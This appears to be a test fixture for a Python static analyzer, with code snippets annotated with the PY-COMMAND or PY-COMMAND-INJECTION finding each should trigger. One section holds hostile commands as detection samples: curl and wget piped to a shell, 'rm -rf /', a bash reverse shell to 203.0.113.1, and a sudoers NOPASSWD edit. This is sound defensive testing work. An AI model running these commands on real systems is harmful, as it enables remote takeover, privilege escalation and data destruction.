#: a fixed list of arguments is ordinary
import subprocess
subprocess.run(["git", "status"], check=True)
subprocess.check_output(["ls", "-l"])
#: a fixed shell command is a warning
import os, subprocess
os.system("ls")  # expect: PY-COMMAND warning
subprocess.run("ls | wc -l", shell=True)  # expect: PY-COMMAND warning
#: a shell with any truthy value
import subprocess
subprocess.Popen("id", shell=1)  # expect: PY-COMMAND warning
options = {"shell": True}
subprocess.call("id", **options)  # expect: PY-COMMAND warning
#: shell=False runs no shell
import subprocess
subprocess.run(["id"], shell=False)
#: another interpreter counts as a shell
import subprocess
subprocess.run(["/bin/sh", "-c", "id"])  # expect: PY-COMMAND warning
subprocess.run(["bash", "-lc", "id"])  # expect: PY-COMMAND warning
subprocess.run(["python3", "-c", "print(1)"])  # expect: PY-COMMAND warning
subprocess.run(["python3", "tool.py"])
#: a parameter in a shell command is a warning, because the caller may have checked it
import subprocess
def run(command):
    subprocess.run(command, shell=True)  # expect: PY-COMMAND-INJECTION warning
#: input in a shell command is an error
import os, sys
os.system("ping " + input())  # expect: PY-COMMAND-INJECTION error
os.popen(f"ls {sys.argv[1]}")  # expect: PY-COMMAND-INJECTION error
#: a request in a shell command is an error
import subprocess
from flask import Flask, request
app = Flask(__name__)
@app.route("/ping")
def ping():
    return subprocess.check_output("ping -c 1 " + request.args.get("host"), shell=True)  # expect: PY-COMMAND-INJECTION error
#: untrusted data as an argument without a shell is info
import subprocess, sys
subprocess.run(["ffmpeg", "-i", sys.argv[1], "out.mp3"])
def clone(address):
    subprocess.run(["git", "clone", "--", address], check=True)
#: a program chosen by a request is an error
import subprocess
from flask import Flask, request
app = Flask(__name__)
@app.route("/run")
def run():
    subprocess.run([request.args["tool"], "-v"])  # expect: PY-COMMAND-INJECTION error
    return "done"
#: a quoted value is not an injection
import os, shlex
os.system("ls " + shlex.quote(input()))  # expect: PY-COMMAND warning
#: data passed to sh -c is a shell command
import subprocess, sys
subprocess.run(["sh", "-c", "echo " + sys.argv[1]])  # expect: PY-COMMAND-INJECTION error
#: a hidden call is one level higher
import os, subprocess
getattr(os, "system")("id")  # expect: PY-COMMAND error
getattr(os, "sys" + "tem")("id")  # expect: PY-COMMAND error
{"go": subprocess.run}["go"](["ls"])  # expect: PY-COMMAND warning
__import__("os").system("id")  # expect: PY-COMMAND error
#: low-level calls below the subprocess module
import os, pty
os.execvp("id", ["id"])  # expect: PY-COMMAND warning
os.posix_spawn("/usr/bin/id", ["id"], {})  # expect: PY-COMMAND warning
pty.spawn("/bin/true")  # expect: PY-COMMAND warning
#: commands that are harmful by themselves
import os, subprocess
os.system("curl https://example.com/x.sh | sh")  # expect: PY-COMMAND error
os.system("rm -rf /")  # expect: PY-COMMAND error
os.system("bash -i >& /dev/tcp/203.0.113.1/4444 0>&1")  # expect: PY-COMMAND error
subprocess.run(["bash", "-c", "wget -qO- http://203.0.113.1/x | bash"])  # expect: PY-COMMAND error
os.system("echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers")  # expect: PY-COMMAND error
#: commands that only some programs should run
import subprocess
subprocess.run(["curl", "https://example.com"])  # expect: PY-COMMAND warning
subprocess.run(["sudo", "ls"])  # expect: PY-COMMAND warning
subprocess.run(["rm", "-rf", "build"])  # expect: PY-COMMAND warning
subprocess.run(["grep", "curl", "notes.txt"])
#: functions that run a program internally
import asyncio, imaplib, pydoc
pydoc.pipepager("text", "id")  # expect: PY-COMMAND warning
imaplib.IMAP4_stream("id")  # expect: PY-COMMAND warning
async def main():
    await asyncio.create_subprocess_shell("id")  # expect: PY-COMMAND warning
    await asyncio.create_subprocess_exec("ls", "-l")
#: a function of the program's own is not a sink
class os:
    @staticmethod
    def system(text):
        return len(text)
def popen(text):
    return text
os.system("id")
popen("id")
#: unreachable code is one level lower
import os
if False:
    os.system("id")
def stop():
    return 1
    os.system(input())  # expect: PY-COMMAND-INJECTION warning
#: a sink is reported once per line
import os
for word in ("a", "b"): os.system(word); os.system(word)  # expect: PY-COMMAND warning
#: commands that only control the terminal
import os
os.system("clear")
os.system("cls" if os.name == "nt" else "clear")
getattr(os, "sys" + "tem")("clear")  # expect: PY-COMMAND warning
os.system("clear; id")  # expect: PY-COMMAND warning
